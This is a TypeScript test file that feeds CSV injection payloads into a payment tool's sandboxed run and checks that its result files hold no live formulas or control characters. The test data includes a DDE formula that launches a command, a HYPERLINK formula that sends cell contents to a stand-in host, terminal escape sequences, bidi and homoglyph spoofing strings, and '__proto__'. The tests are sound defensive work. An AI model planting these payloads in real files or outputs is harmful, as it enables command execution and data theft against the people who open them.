import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Ground, HostileCommand } from './hostile-commands.ts';
import { isLiveFormula } from './telltale.ts';

/** Text that would run in a spreadsheet. */
const formulas: Readonly<Record<string, string>> = {
  formula: "=cmd|' /C calc'!A0",
  'formula behind a blank': ' =1+1',
  'formula behind a tab': '\t=1+1',
  'formula with at': '@SUM(A1:A9)',
  'formula with plus': '+1+cmd',
  'formula with minus': '-1+cmd',
  'formula in wide signs': '＝1+1',
  'link formula': '=HYPERLINK("http://x/?"&A1,"ok")',
};

/** Text that would steer a terminal, or pass for something else. */
const marks: Readonly<Record<string, string>> = {
  'escape sequence': 'Amina\u001b[2J\u001b[31m Otieno',
  'escape by one sign': 'Amina\u009b2J Otieno',
  'window title': 'Amina\u001b]0;owned\u0007 Otieno',
  'turned direction': 'Amina \u202eoneitO\u202c',
  'isolated direction': 'Amina \u2067Otieno\u2069',
  'zero width': 'Ami\u200bna Oti\u200deno',
  'Cyrillic look-alike': '\u0410mina \u041etieno',
  'Greek look-alike': 'A\u03bcina Otien\u03bf',
  'wide letters': 'Ａｍｉｎａ Ｏｔｉｅｎｏ',
  backspace: 'Amina Otieno\b\b\b\b\b\bKamau!',
  'line separators': 'Amina\u2028Otieno\u2029x',
  prototype: '__proto__',
};

export const formulaCommands = Object.entries(formulas).map(injecting);

export const markCommands = Object.entries(marks).map(injecting);

/** The text in every column of a row, beside a sound one; paid, and the results looked at as a spreadsheet would. */
function injecting([name, text]: [string, string]): HostileCommand {
  return {
    name: `injection: ${name}`,
    prepare: ({ here }) => writeFileSync(join(here, 'inject.csv'), fileWith(text)),
    args: () => [
      'run',
      'inject.csv',
      '--sandbox',
      '--yes',
      '--skip-invalid',
      '--on-mismatch',
      'pay',
      '--verbose',
      '--settle-for',
      '5s',
    ],
    exits: [0, 3, 65],
    judge: (ground) => judgeResults(ground),
  };
}

const columns = [
  'paymentId',
  'accountName',
  'country',
  'currency',
  'amount',
  'phoneNumber',
  'narration',
  'remark',
];

function fileWith(text: string): string {
  const quoted = `"${text.replaceAll('"', '""')}"`;
  const sound = ['P0', 'John Kamau', 'KE', 'KES', '100.00', '+254712000100', 'pay', 'x'];
  const rows = columns.map((_, column) =>
    sound
      .map((cell, index) =>
        index === column
          ? quoted
          : index === 0
            ? `P${column + 1}`
            : index === 5
              ? `+25471200011${column}`
              : cell,
      )
      .join(','),
  );
  return `${[columns.join(','), sound.join(','), ...rows].join('\r\n')}\r\n`;
}

function judgeResults({ here }: Ground): string | undefined {
  for (const name of ['inject.results.csv', 'inject.retry.csv']) {
    const path = join(here, name);
    if (!existsSync(path)) continue;
    const [header = [], ...rows]: string[][] = parse(readFileSync(path), { bom: true });
    for (const row of rows) {
      for (const [index, cell] of row.entries()) {
        if (isLiveFormula(cell)) return `${name} has a live formula: ${JSON.stringify(cell)}`;
        // The input's own cells come back as they came; what is ours holds nothing that acts.
        if (header[index]?.startsWith('payrun_') && /[\p{Cc}\p{Cf}\u2028\u2029]/u.test(cell))
          return `${name} has a control sign in ${header[index]}: ${JSON.stringify(cell)}`;
      }
    }
  }
  return undefined;
}
